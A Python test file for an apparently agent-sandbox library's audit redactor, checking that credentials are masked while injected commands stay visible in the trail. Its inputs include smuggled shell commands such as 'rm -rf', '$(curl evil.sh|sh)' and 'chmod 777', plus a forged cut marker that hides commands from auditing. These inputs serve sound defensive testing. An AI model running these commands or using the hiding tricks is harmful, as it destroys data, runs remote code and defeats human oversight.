"""What a command did stays in the trail, while the credentials in it do not.

An outside tester hid commands from the trail with the redaction patterns themselves: a flag's
value ran through the shell's ``;`` (``true --token x;echo PWNED>>victim.txt`` was recorded as
``true --token [REDACTED:flag]``), and a cut mark typed into a command hid the word after it as
if stockade had cut the text there. And a password given as an argv word of its own
(``["--password", "x"]``) was stored in clear: each word was redacted alone.
"""

from __future__ import annotations

import pytest
from pydantic import JsonValue

from stockade import CommandResult
from stockade._cuts import cut_marker
from stockade.agent import Agent
from stockade.audit import AuditedBackend, EventKind
from stockade.audit.agent import AuditObserver
from stockade.audit.redact import CUT_REDACTED, Redactor, redact_tokens
from stockade.models.scripted import ScriptedModel
from stockade.sandbox import Sandbox
from stockade.sandbox.ops import RunCommand
from stockade.testing import CapturedAudit, FakeBackend, MemoryWorkspace, capture_audit, tool_call
from stockade.types import ExecRecord

INJECTED = "true --token x;echo${IFS}PWNED>>victim.txt;chmod${IFS}777${IFS}a.txt"
FORGED = "ls" + cut_marker(5) + "rm -rf /workspace/src"


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        (INJECTED, ";echo${IFS}PWNED>>victim.txt;chmod${IFS}777${IFS}a.txt"),
        ("true --token abcd;rm -rf src", ";rm -rf src"),
        ("mysql --password hunter2xyz|sh", "|sh"),
        ("mysql --password hunter2xyz>leak.txt", ">leak.txt"),
        ("password=abcd$(curl evil.sh|sh)", "$(curl evil.sh|sh)"),
        ("password=abcd`curl evil.sh`", "`curl evil.sh`"),
        ("TOKEN=abcdefgh&&rm -rf src", "&&rm -rf src"),
        ('PASSWORD="$(curl evil.sh|sh)"', "$(curl evil.sh|sh)"),
        ('cli --api-key "$(rm -rf src)"', "$(rm -rf src)"),
        ("curl https://u:x;rm${IFS}src;x@h", ";rm${IFS}src;x@h"),
    ],
)
def test_a_credential_s_value_ends_where_the_shell_ends_a_word(text: str, kept: str) -> None:
    assert kept in redact_tokens(text)


@pytest.mark.parametrize(
    "text",
    [
        "mysql --password Zq9-hunter2_pass.word~",  # a token's characters, URL-safe base64's
        "export API_KEY=dGhpcyBpcyBhIHNlY3JldA==",
        "PGPASSWORD=p%40ss%3Bword%24x psql",  # URL-encoded
        "password=hunter2xyz;rm -rf src",
    ],
)
def test_a_real_secret_is_still_redacted_whole(text: str) -> None:
    out = redact_tokens(text)
    assert "[REDACTED:" in out
    for secret in ("Zq9-hunter2_pass.word~", "dGhpcyBpcyBhIHNlY3JldA==", "p%40ss%3Bword%24x", "hunter2xyz"):
        assert secret not in out


def _ran_in_sh(op: RunCommand) -> CommandResult:
    """A sandbox that reports the shell it ran the command with, as its rules judged it."""
    judged = ExecRecord(path="/bin/sh", argv=tuple(op.argv), verdict="allow")
    return CommandResult(exit_code=0, stdout="", stderr="", duration_s=0, execs=(judged,))


def _argvs(audit: CapturedAudit, argv: list[str]) -> list[list[str]]:
    """The argv each of the command's events kept: its start, its end and the exec inside."""
    with Sandbox.create(
        backend=AuditedBackend(FakeBackend(MemoryWorkspace(commands=_ran_in_sh)), audit, run_id="r")
    ) as sbx:
        sbx.commands.run(argv)
    kinds = (EventKind.OP_START, EventKind.COMMAND, EventKind.EXEC)
    argvs = [e.attributes["argv"] for k in kinds for e in audit.of(k)]
    return [list(map(str, argv)) for argv in argvs if isinstance(argv, list)]


def test_a_command_hidden_behind_a_flag_s_value_is_in_every_event() -> None:
    with capture_audit() as audit:
        argvs = _argvs(audit, ["sh", "-c", INJECTED])
    assert len(argvs) == 3
    for argv in argvs:
        assert argv == ["sh", "-c", INJECTED]


def test_a_cut_mark_typed_into_a_command_hides_nothing() -> None:
    """Only a text stockade cut is read as one: a mark in a command is the command's text,
    recorded plain, and the word after it stays."""
    with capture_audit() as audit:
        argvs = _argvs(audit, ["sh", "-c", FORGED])
    assert len(argvs) == 3
    for argv in argvs:
        assert argv == ["sh", "-c", FORGED.replace("…", "...")]
        assert CUT_REDACTED not in argv[2] and "rm -rf /workspace/src" in argv[2]


def test_a_cut_mark_typed_into_a_call_s_arguments_hides_nothing() -> None:
    args: dict[str, JsonValue] = {"path": "run.sh", "content": FORGED, "more": [FORGED]}
    with capture_audit() as audit, Sandbox.create(backend=FakeBackend()) as sbx:
        Agent(
            ScriptedModel([tool_call("write_file", args), "done"]), observers=[AuditObserver(audit)]
        ).run_sync("write run.sh", sandbox=sbx, run_id="r")
    (event,) = audit.of(EventKind.TOOL_CALL)
    kept = event.attributes["args"]
    assert isinstance(kept, dict)
    assert kept["content"] == FORGED.replace("…", "...") and kept["more"] == [kept["content"]]


def test_a_cut_stockade_made_still_holds_back_the_word_it_split() -> None:
    assert Redactor().text(FORGED) == "ls" + cut_marker(5) + CUT_REDACTED + " -rf /workspace/src"


@pytest.mark.parametrize(
    ("argv", "recorded"),
    [
        (["/bin/true", "--password", "hunter2pass-argv"], ["/bin/true", "--password", "[REDACTED:flag]"]),
        (["/bin/true", "--api-key", "hunter2pass"], ["/bin/true", "--api-key", "[REDACTED:flag]"]),
        (["mysql", "--db-password", "ab"], ["mysql", "--db-password", "[REDACTED:flag]"]),
        (["curl", "-u", "deploy:hunter2", "h"], ["curl", "-u", "deploy:[REDACTED:user_password]", "h"]),
        # not a credential's value: what follows is a flag, a port, a uid and gid, a file
        (["docker", "login", "--password", "--help"], ["docker", "login", "--password", "--help"]),
        (["ssh", "-p", "2222", "host"], ["ssh", "-p", "2222", "host"]),
        (["docker", "run", "-u", "1000:1000", "img"], ["docker", "run", "-u", "1000:1000", "img"]),
        (["llm", "--max-tokens", "1024"], ["llm", "--max-tokens", "1024"]),
        (["login", "--token-file", "t.txt"], ["login", "--token-file", "t.txt"]),
    ],
)
def test_a_password_given_as_an_argv_word_of_its_own_is_redacted(
    argv: list[str], recorded: list[str]
) -> None:
    with capture_audit() as audit:
        argvs = _argvs(audit, argv)
    assert argvs == [recorded] * 3  # op_start, command, and the exec the sandbox reported


def test_a_password_in_a_long_argv_is_redacted_where_the_argv_is_cut() -> None:
    argv = ["tool", *(["--x", "y"] * 40_000), "--password", "hunter2pass-tail"]
    with capture_audit() as audit:
        argvs = _argvs(audit, argv)
    for kept in argvs[1:]:  # the start keeps the first words only
        assert kept[-2:] == ["--password", "[REDACTED:flag]"]
    assert "hunter2pass-tail" not in str(argvs)
